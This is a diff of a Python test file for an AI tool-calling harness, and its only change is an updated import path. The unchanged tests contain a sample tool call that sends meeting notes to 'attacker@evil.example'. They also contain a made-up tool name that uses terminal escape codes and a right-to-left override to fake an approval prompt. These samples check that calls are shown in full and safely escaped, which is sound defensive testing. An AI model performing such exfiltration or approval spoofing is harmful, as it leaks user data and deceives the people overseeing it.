@@ -447,7 +447,7 @@ def test_a_tools_result_is_scrubbed_before_it_is_kept_or_sent(
 def test_call_text_is_the_whole_call_as_python_wrapped() -> None:
     import ast
 
-    from yagpt_magic.tools import call_text
+    from yagpt_magic.core.tools import call_text
 
     notes = "Hi team, here are the meeting notes from today.\n" * 20 + "x" * 500
     text = call_text("send", {"recipient": "attacker@evil.example", "message": notes,
@@ -464,7 +464,7 @@ def test_call_text_is_the_whole_call_as_python_wrapped() -> None:
 
 
 def test_call_text_escapes_a_name_the_model_made_up() -> None:
-    from yagpt_magic.tools import call_text
+    from yagpt_magic.core.tools import call_text
 
     text = call_text("f\x1b[1A\rRun f? [y/N] y\u202e", {})
     assert all(c.isprintable() for c in text) and "\\x1b" in text and "\\u202e" in text
